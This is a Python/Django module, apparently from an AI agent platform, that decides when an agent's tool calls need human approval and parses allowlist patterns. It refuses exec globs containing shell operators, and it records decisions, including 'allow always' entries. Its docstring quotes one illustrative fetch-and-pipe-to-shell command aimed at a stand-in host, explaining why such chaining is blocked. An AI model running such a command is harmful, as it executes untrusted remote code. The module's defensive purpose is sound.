"""Human approval of tool calls: when one is needed, the allowlist grammar, and recording decisions.

Per agent, `approval = {"mode": "off"|"on_miss"|"always", "allowlist": [...], "timeout_seconds"?}`:
`off` runs everything the policy allows; `on_miss` asks unless an allowlist pattern matches; `always`
asks for every call. An unknown mode asks (fail closed).

Allowlist patterns: `*` (everything), `TOOL` (any call of a tool; globs allowed, e.g. `web_*`),
`TOOL:GLOB` (the call's subject, e.g. exec's command or web_fetch's URL, matches the glob) and
`TOOL:=EXACT` (the subject is exactly EXACT; "allow always" writes these). Because `exec:git *` would
also match `git log; curl evil | sh`, an exec glob only matches a single simple command: no shell
operators, redirections, substitutions or newlines, and no `env` (env can change what a program does).
Such a command still runs when a human approves it.

The waiting holds no thread: a call waits as a row; the decision (REST, WebSocket, admin, or expiry
from the workers' housekeeping loop) moves it on. Resolution itself lives in tools.services.
"""

import fnmatch
import logging
from datetime import timedelta

from asgiref.sync import async_to_sync
from channels.layers import get_channel_layer
from django.conf import settings
from django.db import transaction
from django.utils import timezone

from sessions import events
from tenants.models import Agent
from tools.base import ToolSpec
from tools.models import Approval

logger = logging.getLogger(__name__)

APPROVAL_REQUESTED = "approval.requested"
APPROVAL_RESOLVED = "approval.resolved"
# Shell syntax that chains, substitutes or redirects: a glob pattern never vouches for it.
_SHELL_SYNTAX = frozenset(";&|<>`$()\n\r\\")


def tenant_approvals_group(tenant_id) -> str:
    """Channel-layer group told about every approval of a tenant (for WebSocket consumers)."""
    return f"approvals.{tenant_id}"


def pattern_matches(pattern: str, *, tool: str, subject: str, tool_input: dict) -> bool:
    pattern = pattern.strip()
    if pattern == "*":
        return True
    name, sep, argument = pattern.partition(":")
    if not fnmatch.fnmatchcase(tool, name):
        return False
    if not sep:
        return True
    if argument.startswith("="):
        return subject == argument[1:]
    if tool == "exec" and (tool_input.get("env") or any(ch in _SHELL_SYNTAX for ch in subject)):
        return False
    return fnmatch.fnmatchcase(subject, argument)


def _approval_conf(agent: Agent) -> dict:
    return agent.approval if isinstance(agent.approval, dict) else {"mode": "always"}


def approval_needed(*, agent: Agent, spec: ToolSpec, tool_input: dict) -> bool:
    conf = _approval_conf(agent)
    mode = conf.get("mode", "off")
    if mode == "off":
        return False
    if mode != "on_miss":
        return True
    allowlist = conf.get("allowlist") if isinstance(conf.get("allowlist"), list) else []
    subject = spec.subject(tool_input)
    return not any(
        isinstance(p, str) and pattern_matches(p, tool=spec.name, subject=subject, tool_input=tool_input) for p in allowlist
    )


def approval_timeout(agent: Agent) -> float:
    value = _approval_conf(agent).get("timeout_seconds")
    if isinstance(value, (int, float)) and not isinstance(value, bool) and 1 <= value <= 86400:
        return float(value)
    return settings.BEAMCLAW_TOOLS["APPROVAL_TIMEOUT_SECONDS"]


def always_pattern(approval: Approval) -> str:
    return f"{approval.tool}:={approval.subject}" if approval.subject else approval.tool


def approval_payload(approval: Approval) -> dict:
    return {
        "approval_id": str(approval.pk),
        "status": approval.status,
        "tool": approval.tool,
        "input": approval.input,
        "subject": approval.subject,
        "session_id": str(approval.session_id) if approval.session_id else None,
        "tool_call_id": approval.tool_call_id,
        "invocation_id": str(approval.invocation_id) if approval.invocation_id else None,
        "expires_at": approval.expires_at.isoformat(),
        "decided_by": approval.decided_by,
        "reason": approval.reason,
    }


def _announce(approval: Approval, event: str, run_id=None) -> None:
    """After commit: the run's event stream (if any) and the tenant's channel-layer group."""
    payload = approval_payload(approval)
    tenant_id = approval.tenant_id

    def send():
        if run_id is not None:
            events.publish(run_id, event, payload)
        try:
            async_to_sync(get_channel_layer().group_send)(
                tenant_approvals_group(tenant_id), {"type": "approval.event", "event": event, "payload": payload}
            )
        except Exception:  # noqa: BLE001 - a missed notification must not undo the decision; REST still shows it
            logger.exception("could not notify WebSocket clients about approval %s", payload["approval_id"])

    transaction.on_commit(send)


def approval_open(*, agent: Agent, spec: ToolSpec, tool_input: dict, session=None, tool_call=None, invocation=None) -> Approval:
    """Record that a call waits for a human (inside the caller's transaction)."""
    approval = Approval.objects.create(
        tenant_id=agent.tenant_id,
        agent=agent,
        session=session,
        tool_call=tool_call,
        invocation=invocation,
        tool=spec.name,
        input=tool_input,
        subject=spec.subject(tool_input),
        expires_at=timezone.now() + timedelta(seconds=approval_timeout(agent)),
    )
    _announce(approval, APPROVAL_REQUESTED, run_id=tool_call.run_id if tool_call is not None else None)
    return approval


def approval_decide_locked(approval: Approval, *, status: str, decided_by: str, always: bool = False, reason: str = "") -> None:
    """Record a decision on a pending approval the caller has locked; "allow always" extends the
    agent's allowlist with an exact pattern for this call's subject."""
    approval.status = status
    approval.decided_by = decided_by[:100]
    approval.reason = reason[:300]
    approval.decided_at = timezone.now()
    approval.always = bool(always and status == Approval.Status.ALLOWED)
    approval.save(update_fields=["status", "decided_by", "reason", "decided_at", "always"])
    if approval.always:
        agent = Agent.objects.select_for_update().get(pk=approval.agent_id)
        conf = dict(agent.approval) if isinstance(agent.approval, dict) else {"mode": "on_miss"}
        allowlist = [p for p in conf.get("allowlist") or [] if isinstance(p, str)]
        pattern = always_pattern(approval)
        if pattern not in allowlist:
            conf["allowlist"] = [*allowlist, pattern]
            agent.approval = conf
            agent.save(update_fields=["approval", "updated_at"])
    run_id = approval.tool_call.run_id if approval.tool_call_id else None
    _announce(approval, APPROVAL_RESOLVED, run_id=run_id)
